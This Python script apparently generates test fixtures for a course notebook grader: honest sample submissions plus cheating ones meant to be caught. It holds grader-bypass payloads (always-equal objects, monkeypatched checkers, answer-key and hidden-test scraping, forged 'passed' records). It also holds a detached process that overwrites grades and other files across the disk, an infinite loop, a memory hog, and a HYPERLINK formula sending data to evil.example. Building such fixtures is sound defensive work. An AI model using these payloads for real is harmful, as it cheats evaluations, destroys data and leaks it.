"""Write the sample class in tests/course/submissions/ (run again after the exercises or the data change),
and, for the grading attack tests, a class of cheats and honest students (:func:`write_attack_class`).

    python tests/course/make_submissions.py

Six students hand in module 1 (one of them also module 4):

- ``blank``: the notebook as released, nothing answered;
- ``partial``: one answer in its field, one wrong answer in code, one written answer;
- ``complete``: every answer right (fields, code and the text "2.63x"), every written answer; module 4 too;
- ``printer``: prints "passed" for every question and computes one answer (m01_q1) itself;
- ``cheat``: redefines ``check`` (and the kit's) to say "passed", and computes one answer (m01_q3) itself;
- ``corrupt``: a damaged file.
"""

from __future__ import annotations

import importlib.util
import json
from pathlib import Path

import nbformat

ROOT = Path(__file__).resolve().parents[2]
OUT = Path(__file__).resolve().parent / "submissions"
MIME = "application/vnd.filmkit.answer+json"
WRITTEN_MIME = "application/vnd.filmkit.written+json"

spec = importlib.util.spec_from_file_location("key", ROOT / "instructors" / "answer_key.py")
key = importlib.util.module_from_spec(spec)
spec.loader.exec_module(key)
KEY = key.KEY


def learner(name):
    return nbformat.read(ROOT / "exercises" / f"{name}.ipynb", as_version=4)


def field_answer(nb, sheet, qid, value):
    """What a saved notebook holds after the student answered ``qid`` in its field."""
    for cell in nb.cells:
        if cell.cell_type == "code" and f'ask("{qid}")' in cell.source:
            cell.outputs = [nbformat.v4.new_output("display_data", data={
                MIME: {"sheet": sheet, "qid": qid, "value": value, "saved": "2026-11-30T10:15:00"},
                "text/plain": f"Saved ({qid}): {value}"})]
            return
    raise KeyError(qid)


def name(nb, sheet, who):
    for cell in nb.cells:
        if cell.cell_type == "code" and cell.source.strip() == "your_name()":
            cell.outputs = [nbformat.v4.new_output("display_data", data={
                MIME: {"sheet": sheet, "qid": "_student", "value": who, "saved": "2026-11-30T10:10:00"},
                "text/plain": f"Saved (_student): {who}"})]


def code_answer(nb, qid, expression):
    for cell in nb.cells:
        if cell.cell_type == "code" and f'ask("{qid}")' in cell.source:
            variable = cell.source.split("=")[0].strip().splitlines()[-1]
            cell.source = f"{variable} = {expression}\n"
            return
    raise KeyError(qid)


def written(nb, task, text):
    """A written answer as the notebook holds it: typed in the task's text box (its record), or in an old
    sheet's Markdown answer cell."""
    for cell in nb.cells:
        if cell.metadata.get("filmkit", {}).get("answer") != task:
            continue
        if cell.cell_type == "markdown":
            cell.source = text
        else:
            sheet = nb.metadata.get("filmkit", {}).get("sheet", "")
            cell.outputs = [nbformat.v4.new_output("display_data", data={
                WRITTEN_MIME: {"sheet": sheet, "task": task, "text": text, "saved": "2026-11-30T10:20:00"},
                "text/plain": ""})]
        return
    raise KeyError(task)


def main():
    OUT.mkdir(exist_ok=True)
    m1, s1 = "01_the_eternaut_case", "01_the_eternaut_case"
    blank = learner(m1)
    nbformat.write(blank, OUT / f"blank_{m1}.ipynb")

    nb = learner(m1)
    name(nb, s1, "Pat Partial")
    field_answer(nb, s1, "m01_q1", str(KEY["m01_q1"].expected()))
    code_answer(nb, "m01_q3", "1.78")
    written(nb, "1.4", "CL23 is misattributed: its source is a single outlet and no transcript has the words.")
    nbformat.write(nb, OUT / f"partial_{m1}.ipynb")

    nb = learner(m1)
    name(nb, s1, "Cam Complete")
    field_answer(nb, s1, "m01_q1", str(KEY["m01_q1"].expected()))
    field_answer(nb, s1, "m01_q2", sorted(KEY["m01_q2"].expected()))
    code_answer(nb, "m01_q3", '"2.63x"')
    written(nb, "1.4", "CL25 says VFX spend fell from $200K to $20K. Its only source is an undated page with no "
                       "author, marked unverified; Netflix gave no cost figure.\n\nA reader could ask where a precise "
                       "figure came from when the company gave none.")
    written(nb, "1.5", "I would need the baseline bid, what was timed, set-up costs and a quality standard.")
    written(nb, "1.6", "Broadcast brackets words into the quote; Reuters keeps the sentence. I would cite Reuters.")
    nbformat.write(nb, OUT / f"complete_{m1}.ipynb")

    m4 = "04_work_and_jobs"
    nb = learner(m4)
    name(nb, m4, "Cam Complete")
    field_answer(nb, m4, "m04_q1", f"{100 * KEY['m04_q1'].expected():.2f}%")
    code_answer(nb, "m04_q2", '__import__("math").log(1.1 / labour.rebound(elasticity=0, adoption_share=0.5)["hours_ratio"])'
                              ' / __import__("math").log(1 / labour.rebound(elasticity=0, adoption_share=0.5)["price_ratio"])')
    written(nb, "4.3", "Supports: TAG membership doubled 2009-2020. Complicates: BLS jobs fell 2019-2024.")
    nbformat.write(nb, OUT / f"complete_{m4}.ipynb")

    nb = learner(m1)
    code_answer(nb, "m01_q1", '(__import__("pandas").Timestamp("2025-07-17") - '
                              '__import__("pandas").Timestamp("2025-04-17")).days')
    for qid in ("m01_q1", "m01_q2", "m01_q3"):
        nb.cells.append(nbformat.v4.new_code_cell(f'print("{qid}: passed: correct.")'))
    written(nb, "1.4", "passed")
    nbformat.write(nb, OUT / f"printer_{m1}.ipynb")

    nb = learner(m1)
    nb.cells.insert(3, nbformat.v4.new_code_cell(
        "import filmkit.tools.selfcheck as _sc\n"
        "def check(qid, namespace=None):\n    print(f'{qid}: passed: correct.')\n    return True\n"
        "_sc.check = check\n_sc.evaluate = lambda q, a, key=None: ('passed', 'correct.')\n"
        "_sc.verdict = lambda qid, ns: ('passed', 'correct.')"))
    code_answer(nb, "m01_q3", "1 / (1 - 0.62)")
    nbformat.write(nb, OUT / f"cheat_{m1}.ipynb")

    text = nbformat.writes(learner(m1))
    (OUT / f"corrupt_{m1}.ipynb").write_text(text[: len(text) // 3], encoding="utf-8")
    print(f"wrote {len(list(OUT.glob('*.ipynb')))} notebooks to {OUT}")


# ---- the class of grading day: every hand-in the grader must resist, beside honest students ---------------------

M1, M2, M4 = "01_the_eternaut_case", "02_cost_and_time", "04_work_and_jobs"
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Oscar")'
#: the same formula as a file name can hold it (no slash): an id taken from the name is a formula too
HYPERLINK_ID = '=HYPERLINK("evil.example?"&A1,"Oscar")'
#: the roster of the class (plain login,name): the cheats are on it, the formula-named student is not
ROSTER = [("alovelace", "Ada Lovelace"), ("ghopper", "Grace Hopper"), ("turing", "Alan Turing"),
          ("willa", "Willa Cather"), ("yves", "Yves Klein"), ("bob", "Bob Marley"), ("carol", "Carol Shields"),
          ("oscar", "Oscar Wilde"), ("shadow", "Sam Shadow"), ("otterpatch", "Otto Patch"),
          ("hiddentests", "Hilda Tests"), ("keycaller", "Kay Caller"), ("vandal", "Val Vandal"),
          ("looper", "Lou Looper"), ("hog", "Meg Hog"), ("forger", "Fred Forger"), ("dave", "Dave Essay")]
#: what each honest student earns (checks total, checks possible), graded alone or with the class
HONEST = {"alovelace": (3, 3), "ghopper": (2, 2), "turing": (3, 3), "willa": (2, 3), "yves": (2, 2), "bob": (1, 3)}
#: the hand-ins that must earn nothing
CHEATS = ["shadow", "otterpatch", "hiddentests", "keycaller", "vandal", "looper", "hog", "forger"]
#: a string only the vandal's detached process carries on its command line (the tests look for it in /proc)
VANDAL_MARK = "filmkit-vandal-marker"


def solution(name):
    return nbformat.read(ROOT / "instructors" / "solutions" / f"{name}.ipynb", as_version=4)


def _right(nb, sheet, qids, stamp):
    for qid in qids:
        value = KEY[qid].expected()
        value = sorted(value) if isinstance(value, list) else str(value)
        field_answer(nb, sheet, qid, value)
        nb_set_stamp(nb, qid, stamp)


def nb_set_stamp(nb, qid, stamp):
    for cell in nb.cells:
        for out in cell.get("outputs", []):
            record = out.get("data", {}).get(MIME)
            if record and record["qid"] == qid:
                record["saved"] = stamp


def computed(nb, qid, code):
    """Replace the answer field of ``qid`` with code (the answer is computed, so only the sandbox can read it)."""
    for cell in nb.cells:
        if cell.cell_type == "code" and f'ask("{qid}")' in cell.source:
            cell.source = code
            return
    raise KeyError(qid)


def _cheat(nb, code, qids=("m01_q1", "m01_q2", "m01_q3")):
    """A learner sheet whose answers are all computed by ``code`` (so it runs in the sandbox)."""
    nb.cells.insert(2, nbformat.v4.new_code_cell(code))
    for qid in qids:
        variable = key_variable(qid)
        computed(nb, qid, f"{variable} = globals().get('_fk_{qid}', ...)\n")
    return nb


def key_variable(qid):
    from filmkit.tools import questions  # noqa: F401
    from filmkit.tools.question import REGISTRY
    return REGISTRY[qid].variable


SHADOW = """\
import builtins
class Anything(list):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = list.__hash__
abs = lambda x: 0
sorted = lambda *a, **k: Anything()
builtins.abs, builtins.sorted = abs, sorted
_fk_m01_q1 = _fk_m01_q2 = _fk_m01_q3 = Anything()
"""
OTTER_PATCH = """\
try:
    import otter.test_files.ok_test
    otter.test_files.ok_test.run_doctest = lambda *a, **k: (True, "")
except Exception:
    pass
"""
HIDDEN_TESTS = """\
import glob, os, re
found = {}
for pattern in ("tests/*.py", "../tests/*.py", "/sandbox/**/*.py", "/tmp/**/*.py"):
    for path in glob.glob(pattern, recursive=True):
        text = open(path).read()
        for qid, value in re.findall(r"(m\\d\\d_q\\d+).*?== ([-0-9.e]+)", text):
            found[qid] = float(value)
_fk_m01_q1 = found.get("m01_q1", ...)
_fk_m01_q3 = found.get("m01_q3", ...)
"""
KEY_CALLER = """\
from filmkit.tools.selfcheck import answer_key
import importlib.util, pathlib, filmkit
key = answer_key()
if key is None:
    path = pathlib.Path(filmkit.__file__).resolve().parents[1] / "instructors" / "answer_key.py"
    spec = importlib.util.spec_from_file_location("k", path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    key = module.KEY
_fk_m01_q1 = key["m01_q1"].expected()
_fk_m01_q2 = key["m01_q2"].expected()
_fk_m01_q3 = key["m01_q3"].expected()
"""
VANDAL = f"""\
import os, subprocess, sys
later = "import glob, time\\ntime.sleep(3)\\nfor p in glob.glob('/**/grades.csv', recursive=True):\\n    open(p, 'w').write('Ada,0')\\n"
subprocess.Popen([sys.executable, "-c", later + "# {VANDAL_MARK}"], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
seen = []
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            seen.append(open(f"/proc/{{pid}}/cmdline", "rb").read().decode(errors="replace"))
            seen.append(os.readlink(f"/proc/{{pid}}/cwd"))
        except Exception:
            pass
targets = []
for top in ["/", *[s for s in seen if s.startswith("/")]]:
    for folder, dirs, files in os.walk(top):
        if folder.startswith(("/proc", "/sys", "/dev", "/usr", "/lib", "/bin", "/sbin")) or "site-packages" in folder \\
                or ".pyenv" in folder:
            dirs[:] = []
            continue
        targets += [os.path.join(folder, f) for f in files if f.endswith((".ipynb", ".csv", ".zip", ".py", ".json"))]
for path in targets[:5000]:
    try:
        with open(path, "w") as handle:
            handle.write("vandalised")
    except Exception:
        pass
_fk_m01_q1 = len(seen)
"""
LOOP = "while True:\n    pass\n"
HOG = "blob = bytearray(2 * 1024 ** 3)\n_fk_m01_q1 = len(blob)\n"


def _forged(nb):
    """Records an answer field never writes: a claimed verdict, another sheet's record, a value of no field's shape."""
    cells = [c for c in nb.cells if c.cell_type == "code"]
    forged = [{"sheet": M1, "qid": "m01_q1", "value": "1", "saved": "2026-11-30T10:00:00", "status": "passed",
               "points": 1},
              {"sheet": M4, "qid": "m01_q2", "value": sorted(KEY["m01_q2"].expected()), "saved": "2026-11-30T10:00:00"},
              {"sheet": M1, "qid": "m01_q3", "value": {"$ne": 0}, "saved": "2026-11-30T10:00:00"}]
    for cell, record in zip(cells[2:], forged):
        cell.outputs = [nbformat.v4.new_output("display_data", data={MIME: record, "text/plain": "Saved"}),
                        nbformat.v4.new_output("stream", name="stdout", text=f"{record['qid']}: passed: correct.\n")]
    return nb


def write_attack_class(folder: Path) -> None:
    """The class of grading day in ``folder`` (with ``roster.csv`` beside it): see HONEST and CHEATS."""
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    essay = ("CL25 says VFX spend fell from $200K to $20K. Its only source is an undated page with no author, marked "
             "unverified; Netflix gave no cost figure, so a careful reader would ask where the number came from.")
    # Ada, through Canvas: a first attempt with a wrong answer, then a late resubmission with every answer right
    nb = learner(M1)
    name(nb, M1, "Ada Lovelace")
    field_answer(nb, M1, "m01_q1", "100")
    nbformat.write(nb, folder / f"lovelaceada_12345_67890_{M1}.ipynb")
    nb = learner(M1)
    name(nb, M1, "Ada Lovelace")
    _right(nb, M1, ["m01_q1", "m01_q2", "m01_q3"], "2026-11-30T23:58:07")
    written(nb, "1.4", essay)
    written(nb, "1.5", "I would need the baseline bid, what was timed, the set-up cost and a quality standard.")
    ada = nbformat.writes(nb)
    (folder / f"lovelaceada_LATE_12345_67891_{M1}-1.ipynb").write_text(ada, encoding="utf-8")
    (folder / "lovelaceada_12345_67892_summative.pdf").write_bytes(b"%PDF-1.4 summative\n")
    # Oscar hands in Ada's notebook, byte for byte
    (folder / f"oscar_{M1}.ipynb").write_text(ada, encoding="utf-8")
    # Grace, through Moodle: answers only in the answers file the fields save, and a matrix export
    grace = folder / "Grace Hopper_4242_assignsubmission_file_"
    grace.mkdir(exist_ok=True)
    nbformat.write(learner(M4), grace / f"{M4}.ipynb")
    answers = {"m04_q1": {"value": f"{100 * KEY['m04_q1'].expected():.2f}%", "saved": "2026-11-30T09:00:00"},
               "m04_q2": {"value": str(KEY["m04_q2"].expected()), "saved": "2026-11-30T09:01:00"}}
    (grace / f"{M4}.answers.json").write_text(json.dumps({"sheet": M4, "answers": answers}), encoding="utf-8")
    (grace / "matrix.csv").write_text("stakeholder,value,rating,note\nVFX artists,Fairness,2,\n", encoding="utf-8")
    # Alan and Yves compute every answer in code (the solutions): the sandbox reads them
    (folder / "turing").mkdir(exist_ok=True)
    nbformat.write(solution(M2), folder / "turing" / f"{M2}.ipynb")
    (folder / "yves").mkdir(exist_ok=True)
    nbformat.write(solution(M4), folder / "yves" / f"{M4}.ipynb")
    # Willa: two right, one wrong, graded after the vandal
    nb = learner(M1)
    field_answer(nb, M1, "m01_q1", str(KEY["m01_q1"].expected()))
    field_answer(nb, M1, "m01_q2", ["CL01"])
    field_answer(nb, M1, "m01_q3", "1.78")
    code_answer(nb, "m01_q3", "2.63")  # the code replaced the field: its plain value counts, not the old record
    written(nb, "1.4", "The 78% figure is misattributed: no transcript holds it.")
    nbformat.write(nb, folder / f"willa_{M1}.ipynb")
    # Bob: a folder and a flat file for the same module (the newer one counts once)
    (folder / "bob").mkdir(exist_ok=True)
    nb = learner(M1)
    field_answer(nb, M1, "m01_q1", str(KEY["m01_q1"].expected()))
    nbformat.write(nb, folder / "bob" / f"{M1}.ipynb")
    nbformat.write(nb, folder / f"bob_{M1}.ipynb")
    # Carol: module 1's sheet handed in under module 2's name
    nb = learner(M1)
    _right(nb, M1, ["m01_q1"], "2026-11-30T11:00:00")
    nbformat.write(nb, folder / f"carol_{M2}.ipynb")
    # the cheats
    nbformat.write(_cheat(learner(M1), SHADOW), folder / f"shadow_{M1}.ipynb")
    nbformat.write(_cheat(learner(M1), OTTER_PATCH), folder / f"otterpatch_{M1}.ipynb")
    nbformat.write(_cheat(learner(M1), HIDDEN_TESTS), folder / f"hiddentests_{M1}.ipynb")
    nbformat.write(_cheat(learner(M1), KEY_CALLER), folder / f"keycaller_{M1}.ipynb")
    nbformat.write(_cheat(learner(M1), VANDAL), folder / f"vandal_{M1}.ipynb")
    nbformat.write(_cheat(learner(M1), LOOP), folder / f"looper_{M1}.ipynb")
    nbformat.write(_cheat(learner(M1), HOG), folder / f"hog_{M1}.ipynb")
    nbformat.write(_forged(learner(M1)), folder / f"forger_{M1}.ipynb")
    nb = learner(M1)
    name(nb, M1, HYPERLINK)
    _right(nb, M1, ["m01_q1"], "2026-11-30T12:00:00")
    nbformat.write(nb, folder / f"{HYPERLINK_ID}_{M1}.ipynb")
    # files that are not hand-ins, and a document
    (folder / "dave_essay.docx").write_bytes(b"PK\x03\x04 essay")
    (folder / ".DS_Store").write_bytes(b"\x00\x00\x00\x01Bud1")
    (folder / "notes.xyz").write_text("?", encoding="utf-8")
    (folder / "bob" / ".ipynb_checkpoints").mkdir(exist_ok=True)
    nbformat.write(learner(M1), folder / "bob" / ".ipynb_checkpoints" / f"{M1}-checkpoint.ipynb")


def write_roster(path: Path) -> Path:
    Path(path).write_text("login,name\n" + "".join(f"{login},{who}\n" for login, who in ROSTER), encoding="utf-8")
    return Path(path)

if __name__ == "__main__":
    main()
